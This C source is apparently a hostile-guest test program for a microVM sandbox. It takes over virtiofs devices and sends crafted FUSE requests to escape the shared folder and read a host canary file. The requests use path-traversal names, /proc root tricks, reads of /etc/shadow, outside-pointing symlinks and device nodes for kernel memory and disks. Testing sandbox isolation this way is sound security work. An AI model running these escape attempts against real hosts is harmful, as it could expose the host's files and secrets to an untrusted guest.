/*
 * A hostile guest. As the guest's first process it takes the virtiofs devices from the kernel's driver, sets up queues of its
 * own, and sends FUSE requests that no kernel would send: "..", absolute names, symlinks that lead outside, device nodes. It tries to
 * read a file of the host outside of every share, whose path is in the script "canary", and prints what it could read.
 *
 * virtio-mmio and virtqueues: virtio 1.2, sections 4.2 and 2.7. FUSE: linux/fuse.h.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/reboot.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#define PAGE 4096
#define ENTRIES 8
#define PATIENCE_MS 10000

struct desc { uint64_t addr; uint32_t len; uint16_t flags, next; };
struct ring { uint16_t flags, idx, ring[ENTRIES]; };
struct used { uint16_t flags, idx; struct { uint32_t id, len; } ring[ENTRIES]; };

static volatile uint8_t *device;
static volatile uint8_t *queue, *in, *out;
static uint64_t queue_at, in_at, out_at;
static int memory, pagemap, attempts, answers, silent;

static void fail(const char *what)
{
    printf("FAILED %s: %s\n", what, strerror(errno));
    fflush(stdout);
    reboot(RB_AUTOBOOT);
    for (;;)
        pause();
}

static uint32_t get(int at) { return *(volatile uint32_t *)(device + at); }
static void put(int at, uint32_t value) { *(volatile uint32_t *)(device + at) = value; }

/* A locked page, and its physical address. */
static volatile uint8_t *page(uint64_t *at)
{
    uint64_t entry;
    uint8_t *address = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_LOCKED | MAP_POPULATE, -1, 0);
    if (address == MAP_FAILED)
        fail("page");
    memset(address, 0, PAGE);
    if (pread(pagemap, &entry, 8, (uintptr_t)address / PAGE * 8) != 8 || !(entry & (1ULL << 63)))
        fail("pagemap");
    *at = (entry & ((1ULL << 55) - 1)) * PAGE;
    if (*at == 0)
        fail("physical address");
    return address;
}

static void set_queue(int number, uint64_t at)
{
    put(0x30, number);
    if (get(0x34) < ENTRIES)
        fail("queue size");
    put(0x38, ENTRIES);
    put(0x80, at), put(0x84, at >> 32);
    put(0x90, at + 0x100), put(0x94, (at + 0x100) >> 32);
    put(0xa0, at + 0x200), put(0xa4, (at + 0x200) >> 32);
    put(0x44, 1);
}

/* Finds the device with a tag among those on the kernel's command line, and resets it for our own queues. */
static int take(const char *tag)
{
    static char line[4096];
    uint64_t spare;
    int fd = open("/proc/cmdline", O_RDONLY);
    if (fd < 0 || read(fd, line, sizeof line - 1) <= 0)
        fail("cmdline");
    close(fd);
    for (char *at = line; (at = strstr(at, "virtio_mmio.device=")); at++) {
        uint64_t base = strtoull(strchr(at, '@') + 1, NULL, 0);
        uint8_t *map = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, memory, base & ~(uint64_t)(PAGE - 1));
        if (map == MAP_FAILED)
            fail("device's page");
        device = map + base % PAGE;
        if (get(0x08) != 26 || strncmp((char *)device + 0x100, tag, 36) != 0)
            continue;
        put(0x70, 0);
        for (int tries = 0; get(0x70) != 0 && tries < PATIENCE_MS; tries++)
            usleep(1000);
        put(0x70, 1);
        put(0x70, 1 | 2);
        put(0x24, 1), put(0x20, 1); /* VIRTIO_F_VERSION_1 */
        put(0x24, 0), put(0x20, 0);
        put(0x70, 1 | 2 | 8);
        if (!(get(0x70) & 8))
            fail("features");
        page(&spare);
        set_queue(0, spare);
        queue = page(&queue_at), in = page(&in_at), out = page(&out_at);
        set_queue(1, queue_at);
        put(0x70, 1 | 2 | 8 | 4);
        return 1;
    }
    return 0;
}

/* Sends one request: `size` bytes of `body`, then the strings. Returns the error of the reply, whose payload is in `out`. */
static int ask(uint32_t opcode, uint64_t node, const void *body, size_t size, const char *first, const char *second)
{
    static uint64_t unique;
    static uint16_t turn;
    struct fuse_in_header header = { .opcode = opcode, .unique = ++unique, .nodeid = node };
    volatile struct desc *desc = (void *)queue;
    volatile struct ring *avail = (void *)(queue + 0x100);
    volatile struct used *used = (void *)(queue + 0x200);
    size_t length = sizeof header;
    uint16_t before = used->idx;

    if (opcode == FUSE_INIT)
        turn = 0;
    memcpy((void *)(in + length), body, size), length += size;
    if (first)
        strcpy((char *)in + length, first), length += strlen(first) + 1;
    if (second)
        strcpy((char *)in + length, second), length += strlen(second) + 1;
    header.len = length;
    memcpy((void *)in, &header, sizeof header);
    memset((void *)out, 0, PAGE);
    desc[0] = (struct desc){ in_at, length, 1, 1 };
    /* As the kernel lays it out: the header of the reply, then its payload. */
    desc[1] = (struct desc){ out_at, sizeof(struct fuse_out_header), 2 | 1, 2 };
    desc[2] = (struct desc){ out_at + sizeof(struct fuse_out_header), PAGE - sizeof(struct fuse_out_header), 2, 0 };
    avail->ring[turn % ENTRIES] = 0;
    __sync_synchronize();
    avail->idx = ++turn;
    __sync_synchronize();
    put(0x50, 1);
    attempts++;
    for (int tries = 0; used->idx == before && tries < PATIENCE_MS; tries++)
        usleep(1000);
    if (used->idx == before) {
        silent++;
        return -ETIMEDOUT;
    }
    put(0x64, get(0x60));
    answers++;
    return ((struct fuse_out_header *)out)->error;
}

static void *payload(void) { return (void *)(out + sizeof(struct fuse_out_header)); }

static uint64_t lookup(uint64_t parent, const char *name)
{
    if (ask(FUSE_LOOKUP, parent, "", 0, name, NULL) != 0)
        return 0;
    return ((struct fuse_entry_out *)payload())->nodeid;
}

/* Reads the beginning of a file, and prints it with the name of the attempt. */
static void show(const char *attempt, uint64_t node)
{
    struct fuse_open_in open_in = { .flags = O_RDONLY | O_NONBLOCK };
    struct fuse_read_in read_in = { .size = 64 };
    int error;
    if (node == 0)
        return;
    error = ask(FUSE_OPEN, node, &open_in, sizeof open_in, NULL, NULL);
    if (error != 0)
        return;
    read_in.fh = ((struct fuse_open_out *)payload())->fh;
    error = ask(FUSE_READ, node, &read_in, sizeof read_in, NULL, NULL);
    if (error == 0 && ((struct fuse_out_header *)out)->len > 16)
        printf("READ %s: %.60s\n", attempt, (char *)payload());
    else if (!strcmp(attempt, "inside"))
        printf("inside: error %d, %u bytes\n", error, ((struct fuse_out_header *)out)->len);
}

static void make(uint64_t parent, const char *name)
{
    struct fuse_create_in create = { .flags = O_RDWR | O_CREAT | O_NONBLOCK, .mode = S_IFREG | 0644 };
    struct fuse_mkdir_in directory = { .mode = 0755 };
    struct fuse_mknod_in node = { .mode = S_IFREG | 0644 };
    ask(FUSE_CREATE, parent, &create, sizeof create, name, NULL);
    ask(FUSE_MKNOD, parent, &node, sizeof node, name, NULL);
    ask(FUSE_MKDIR, parent, &directory, sizeof directory, name, NULL);
    ask(FUSE_SYMLINK, parent, "", 0, name, "target");
}

static void attack(const char *canary)
{
    static char name[2048], directory[1024];
    struct fuse_init_in init = { .major = 7, .minor = 31, .max_readahead = 65536 };
    uint64_t top, node, inside;
    int error = ask(FUSE_INIT, 0, &init, sizeof init, NULL, NULL);
    if (error != 0) {
        printf("FAILED init: %d\n", error);
        return;
    }
    strcpy(directory, canary);
    *strrchr(directory, '/') = 0;

    /* A share of volumes has them in directories that are numbered from 0. */
    top = lookup(1, "0");
    if (top == 0)
        top = 1;
    node = top;

    /* These requests must succeed, or the failure of the others proves nothing. */
    show("inside", lookup(top, "inside"));
    show("inside, by an odd name", lookup(top, ".//bin/../inside"));
    make(top, "made-by-hand");

    /* Up, step by step, and then down again. */
    for (int step = 0; step < 12; step++) {
        uint64_t up = lookup(node, "..");
        if (up == 0)
            break;
        node = up;
        show("from above", lookup(node, canary + 1));
        snprintf(name, sizeof name, "%s/escaped", directory + 1);
        make(node, name);
    }
    /* By names that lead outside. */
    static const char *const before[] = { "", "/proc/self/root", "/proc/1/root", "/proc/self/cwd", "/proc/thread-self/root",
        "../../../../../../../../../../../..", "bin/../../../../../../../../../..", "/proc/self/task/1/root" };
    for (size_t i = 0; i < sizeof before / sizeof *before; i++) {
        snprintf(name, sizeof name, "%s%s", before[i], canary);
        show(name, lookup(top, name));
        snprintf(name, sizeof name, "%s%s/escaped", before[i], directory);
        make(top, name);
    }
    for (int fd = 0; fd < 64; fd++) {
        snprintf(name, sizeof name, "/proc/self/fd/%d/../../../../../../../..%s", fd, canary);
        show(name, lookup(top, name));
        snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
        show(name, lookup(top, name));
    }
    static const char *const files[] = { "/etc/passwd", "/etc/shadow", "/proc/self/environ", "/proc/self/maps", "/proc/version",
        "/proc/1/cmdline", "/proc/sys/kernel/core_pattern", "/sys/kernel/uevent_helper", "/dev/mem", "/dev/kmsg", "/dev/sda",
        "/dev/vda", "/run/utmp", "/tmp", "/root/.bashrc" };
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        show(files[i], lookup(top, files[i]));
        make(top, files[i]);
    }
    /* By links. */
    ask(FUSE_SYMLINK, top, "", 0, "link", canary);
    show("symlink", lookup(top, "link"));
    ask(FUSE_SYMLINK, top, "", 0, "link-to-directory", directory);
    snprintf(name, sizeof name, "link-to-directory%s", strrchr(canary, '/'));
    show("through a symlink", lookup(top, name));
    make(top, "link-to-directory/escaped");
    inside = lookup(top, "inside");
    struct fuse_link_in link = { .oldnodeid = inside };
    struct fuse_rename_in rename = { .newdir = top };
    snprintf(name, sizeof name, "%s/escaped", directory);
    ask(FUSE_LINK, top, &link, sizeof link, name, NULL);
    ask(FUSE_RENAME, top, &rename, sizeof rename, "inside", name);
    ask(FUSE_RENAME, top, &rename, sizeof rename, canary, "stolen");
    ask(FUSE_UNLINK, top, "", 0, canary, NULL);
    show("stolen", lookup(top, "stolen"));
    /* By device nodes: the kernel's memory, its log, the first disks. A FIFO must not block the server. */
    static const struct { const char *name; int type, major, minor; } nodes[] = { { "mem", S_IFCHR, 1, 1 }, { "kmsg", S_IFCHR, 1, 11 },
        { "zero", S_IFCHR, 1, 5 }, { "vda", S_IFBLK, 254, 0 }, { "sda", S_IFBLK, 8, 0 }, { "nvme", S_IFBLK, 259, 0 }, { "fifo", S_IFIFO, 0, 0 } };
    for (size_t i = 0; i < sizeof nodes / sizeof *nodes; i++) {
        struct fuse_mknod_in mknod = { .mode = nodes[i].type | 0666, .rdev = makedev(nodes[i].major, nodes[i].minor) };
        ask(FUSE_MKNOD, top, &mknod, sizeof mknod, nodes[i].name, NULL);
        snprintf(name, sizeof name, "device node %s", nodes[i].name);
        show(name, lookup(top, nodes[i].name));
    }
    printf("attempts: %d, answers: %d, silent: %d\n", attempts, answers, silent);
}

int main(void)
{
    static char canary[512];
    if (getpid() != 1)
        return 2;
    mount("proc", "/proc", "proc", 0, NULL);
    mount("dev", "/dev", "devtmpfs", 0, NULL);
    int fd = open("/msb/scripts/canary", O_RDONLY);
    if (fd < 0 || read(fd, canary, sizeof canary - 1) <= 0 || mlockall(MCL_CURRENT) != 0)
        fail("canary");
    canary[strcspn(canary, "\n")] = 0;
    memory = open("/dev/mem", O_RDWR | O_SYNC);
    pagemap = open("/proc/self/pagemap", O_RDONLY);
    if (memory < 0 || pagemap < 0)
        fail("open");
    /* A shared root, volumes of the host, and the first root of an unconfined libkrun. */
    static const char *const tags[] = { "rootfs", "volumes", "/dev/root" };
    int devices = 0;
    for (size_t i = 0; i < sizeof tags / sizeof *tags; i++) {
        if (take(tags[i])) {
            attack(canary);
            devices++;
        }
    }
    if (devices == 0)
        fail("no virtiofs device is there");
    printf("done\n");
    fflush(stdout);
    reboot(RB_AUTOBOOT);
    for (;;)
        pause();
}
